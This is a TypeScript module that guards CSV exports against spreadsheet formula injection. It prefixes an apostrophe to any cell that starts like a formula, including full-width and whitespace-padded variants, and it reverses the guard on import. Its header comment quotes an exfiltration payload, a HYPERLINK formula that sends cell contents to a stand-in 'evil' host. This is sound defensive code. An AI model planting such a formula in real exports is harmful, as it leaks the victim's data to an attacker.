/**
 * Spreadsheet formula injection (CSV injection): a cell such as `=HYPERLINK("http://evil/?"&A1)` or
 * `@SUM(...)`, or a DDE payload, runs when an admin opens an exported list in Excel, LibreOffice or Google
 * Sheets. User names, e-mails and notes come from users' applications, so exports must not trust them.
 *
 * The guard (OWASP's advice): a cell whose first character a spreadsheet would read as the start of a
 * formula gets a leading apostrophe, which every spreadsheet treats as "this is text". That covers
 * `=`, `+`, `-`, `@`, a leading tab or CR, the same after leading spaces (some importers trim them), and
 * the full-width forms `＝ ＋ － ＠`, which Japanese Excel turns into formulas too.
 *
 * Phone numbers such as `+81 3 1234 5678` are guarded like anything else, on purpose. Left raw, a
 * spreadsheet reads `+81-3-1234-5678` as arithmetic and shows -6834 (and `+81 3 1234` as #NULL!), so a
 * raw phone is not even readable; with the apostrophe the digits stay exactly as written (a spreadsheet
 * that does not take the apostrophe as its text marker shows it in front of an intact number). An
 * exception for "phone-like" cells would also be a gap an attacker could probe. Importing reverses the guard
 * (`restoreGuarded`), so an exported list edited and imported back stores the phone unchanged.
 */

const FORMULA_START = /^(?:[\t\r]|[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

export function startsLikeFormula(cell: string): boolean {
  return FORMULA_START.test(cell);
}

/** The cell as it may go into a CSV meant for a spreadsheet. */
export function neutraliseFormula(cell: string): string {
  return startsLikeFormula(cell) ? `'${cell}` : cell;
}

/** Undoes neutraliseFormula for an imported cell: one apostrophe is dropped only where the guard adds one. */
export function restoreGuarded(cell: string): string {
  return cell.startsWith("'") && startsLikeFormula(cell.slice(1)) ? cell.slice(1) : cell;
}
